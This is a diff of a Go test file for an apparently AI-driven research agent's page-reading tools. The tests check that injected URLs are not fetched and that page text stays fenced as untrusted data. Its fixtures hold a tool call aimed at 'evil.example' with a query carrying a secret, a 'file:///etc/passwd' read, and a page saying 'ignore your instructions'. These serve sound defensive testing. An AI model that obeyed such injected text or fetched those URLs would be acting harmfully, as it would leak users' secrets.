@@ -108,8 +108,8 @@ func TestUnknownURLIsNotFetched(t *testing.T) {
 		{calls: []string{"read_pages", `{"urls":["https://evil.example/?q=secret","file:///etc/passwd"],"reason":"r"}`}},
 		{calls: []string{"read_pages", `{"urls":["https://a.example/losses?utm_source=x&q=SECRET"],"reason":"r"}`}},
 		{calls: []string{"read_pages", `{"urls":["https://b.example/recount"],"reason":"r"}`}},
-		{calls: []string{"read_pages", `{"urls":["https://c.example/deep"],"reason":"r"}`}}}, nil)
-	want := []string{"https://d.example/advice", "https://b.example/recount", "https://c.example/deep"}
+		{calls: []string{"read_pages", `{"urls":["https://b.example/deep"],"reason":"r"}`}}}, nil)
+	want := []string{"https://d.example/advice", "https://b.example/recount", "https://b.example/deep"}
 	if strings.Join(c.reads, " ") != strings.Join(want, " ") {
 		t.Errorf("fetched %v, want %v", c.reads, want)
 	}
@@ -125,8 +125,8 @@ func TestNothingIsPaidTwice(t *testing.T) {
 	r, c, j, id := research(t, []turn{{calls: []string{"plan", planCall}},
 		{calls: []string{"search_web", searchCall, "search_web", `{"query":"2024 losses grid"}`, "search_web", `{"query":"provider down"}`}},
 		{calls: []string{"read_pages", `{"urls":["https://a.example/losses","https://A.example/losses#top","https://b.example/recount"],"reason":"r"}`}},
-		{calls: []string{"read_pages", `{"urls":["https://a.example/losses?utm_source=x"],"reason":"r"}`, "read_pages", `{"urls":["https://c.example/deep"],"reason":"r"}`}},
-		{calls: []string{"read_pages", `{"urls":["https://c.example/deep"],"reason":"r"}`}}}, nil)
+		{calls: []string{"read_pages", `{"urls":["https://a.example/losses?utm_source=x"],"reason":"r"}`, "read_pages", `{"urls":["https://b.example/deep"],"reason":"r"}`}},
+		{calls: []string{"read_pages", `{"urls":["https://b.example/deep"],"reason":"r"}`}}}, nil)
 	if len(c.asked) != 2 || len(c.reads) != 3 {
 		t.Errorf("searches %v, reads %v", c.asked, c.reads)
 	}
@@ -146,9 +146,9 @@ func TestNothingIsPaidTwice(t *testing.T) {
 
 // What a page says cannot leave its field: the result is one JSON object, whatever the page holds.
 func TestPageTextStaysInItsField(t *testing.T) {
-	_, _, j, id := research(t, []turn{{calls: []string{"plan", planCall}}, {calls: []string{"search_web", searchCall}},
+	_, _, j, run := research(t, []turn{{calls: []string{"plan", planCall}}, {calls: []string{"search_web", searchCall}},
 		{calls: []string{"read_pages", `{"urls":["https://d.example/advice"],"reason":"r"}`}}}, nil)
-	results := toolResults(t, j, id)
+	results := toolResults(t, j, run)
 	var v struct {
 		Pages []struct {
 			Text []struct {
@@ -156,7 +156,12 @@ func TestPageTextStaysInItsField(t *testing.T) {
 			} `json:"untrusted_text"`
 		} `json:"pages"`
 	}
-	d := json.NewDecoder(strings.NewReader(results[2]))
+	first, rest, _ := strings.Cut(results[2], "\n")
+	id, fenced := strings.CutPrefix(first, "[untrusted ")
+	if id = strings.TrimSuffix(id, "]"); !fenced || len(id) < 8 || !strings.Contains(rest, "\n[end "+id+"]") {
+		t.Errorf("the result is not fenced: %s", results[2])
+	}
+	d := json.NewDecoder(strings.NewReader(rest))
 	if err := d.Decode(&v); err != nil || !strings.Contains(v.Pages[0].Text[0].Text, "ignore your instructions") {
 		t.Errorf("%v: %s", err, results[2])
 	}
@@ -266,7 +271,8 @@ func TestPromptsAreWhole(t *testing.T) {
 	set, there := prompts.Default(), map[string]bool{}
 	code := sources(t)
 	_, p := world(t)
-	for _, tool := range toolset(newState("q", corpus.New()), set, p.Reader, p.Search, 0, nil) {
+	p.Renderer = p.Reader // every tool and argument there can be
+	for _, tool := range toolset(newState("q", corpus.New()), Config{Prompts: set}, p, nil) {
 		spec := tool.Spec()
 		if spec.Description == "" {
 			t.Errorf("%s has no description", spec.Name)
